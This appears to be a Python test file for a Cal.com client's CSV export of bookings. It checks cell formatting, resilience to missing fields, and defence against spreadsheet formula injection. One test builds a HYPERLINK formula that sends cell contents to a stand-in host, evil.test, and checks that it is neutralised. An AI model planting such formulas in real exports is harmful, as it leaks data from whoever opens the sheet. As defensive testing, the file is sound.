"""Bookings as flat rows: what is in a cell, and what is never in one."""

from __future__ import annotations

import csv
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import Raw

from calcom_async.export import CsvSink
from calcom_async.export.rows import BOOKING_COLUMNS, booking_cells, harmless
from calcom_async.models.bookings import Booking
from calcom_async.wire import decode

WIRE: dict[str, Any] = {
    "id": 7,
    "uid": "abc",
    "title": "Talk",
    "hosts": [{"id": 1, "name": "Ana", "email": "ana@cal.test", "username": "ana", "timeZone": "Europe/Lisbon"}],
    "status": "accepted",
    "start": "2026-05-06T12:00:00.000+02:00",
    "end": "2026-05-06T12:30:00.000+02:00",
    "duration": 30,
    "eventTypeId": 3,
    "eventType": {"id": 3, "slug": "thirty"},
    "absentHost": False,
    "createdAt": "2026-05-01T08:00:00.123Z",
    "updatedAt": None,
    "attendees": [
        {"name": "Ada", "email": "ada@x.test", "timeZone": "Europe/Rome", "absent": False},
        {"name": "Bob", "email": "bob@x.test", "timeZone": "Asia/Tokyo", "absent": False},
    ],
    "guests": ["g1@x.test", "g2@x.test"],
    "metadata": {"crm": "42"},
    "bookingFieldsResponses": {"email": "ada@x.test", "ü": [1, None]},
}


def row(**changes: Any) -> dict[str, str]:
    wire = {name: value for name, value in (WIRE | changes).items() if value is not ...}
    cells = booking_cells(decode(Booking, msgspec.json.encode(wire)))
    return dict(zip(BOOKING_COLUMNS, cells, strict=True))


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("id", "7"),
        ("start", "2026-05-06T10:00:00.000Z"),
        ("created_at", "2026-05-01T08:00:00.123Z"),
        ("updated_at", ""),
        ("duration_minutes", "30"),
        ("event_type_slug", "thirty"),
        ("host_emails", "ana@cal.test"),
        ("attendee_names", "Ada; Bob"),
        ("attendee_emails", "ada@x.test; bob@x.test"),
        ("attendee_time_zones", "Europe/Rome; Asia/Tokyo"),
        ("guests", "g1@x.test; g2@x.test"),
        ("absent_host", "false"),
        ("rating", ""),
        ("metadata", '{"crm":"42"}'),
        ("booking_fields_responses", '{"email":"ada@x.test","ü":[1,null]}'),
    ],
)
def test_a_cell(column: str, cell: str) -> None:
    """Times are in UTC, several people are joined, nested answers are JSON, nothing is an empty cell."""
    assert row()[column] == cell


@pytest.mark.parametrize(
    "changes",
    [
        {"hosts": ..., "attendees": ...},
        {"hosts": None, "attendees": None, "guests": None},
        {"hosts": [None], "attendees": [None, {}], "guests": [None]},
        {"eventType": None, "eventTypeId": None, "start": None},
        {"status": "a status of tomorrow", "news": {"of": "tomorrow"}},
    ],
)
def test_gaps_and_news_keep_the_columns(changes: dict[str, Any]) -> None:
    """Whatever is missing, null or new, a row has every column and the rest of its cells."""
    cells = row(**changes)
    assert list(cells) == list(BOOKING_COLUMNS)
    assert cells["uid"] == "abc"


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_formulas_are_neutralised(first: str) -> None:
    """What a spreadsheet would run gets an apostrophe, in each column whose text others write."""
    evil = f'{first}HYPERLINK("https://evil.test?"&A1)'
    cells = row(
        title=evil,
        description=evil,
        location=evil,
        cancellationReason=evil,
        reschedulingReason=evil,
        guests=[evil],
        attendees=[{"name": evil, "email": evil, "timeZone": evil, "absent": False}],
        status=evil,
    )
    columns = [name for name, cell in cells.items() if "HYPERLINK" in cell]
    assert len(columns) == 10
    assert all(cells[name] == "'" + evil for name in columns)


@given(st.text())
def test_harmless_changes_nothing_else(text: str) -> None:
    """Any text comes back whole, with at most one apostrophe before it, and never begins like a formula."""
    safe = harmless(text)
    assert safe in {text, "'" + text}
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_any_text_survives_a_csv_reader(text: str) -> None:
    """Quotes, commas, line ends and all of Unicode come back from csv.reader as they were."""
    with TemporaryDirectory() as folder:
        with CsvSink(Path(folder, "a.csv")) as sink:
            sink.write([Raw(msgspec.json.encode(WIRE | {"title": text}))])
        with sink.path.open(encoding="utf-8", newline="") as lines:
            _, cells = csv.reader(lines)
    assert dict(zip(BOOKING_COLUMNS, cells, strict=True))["title"] == harmless(text)
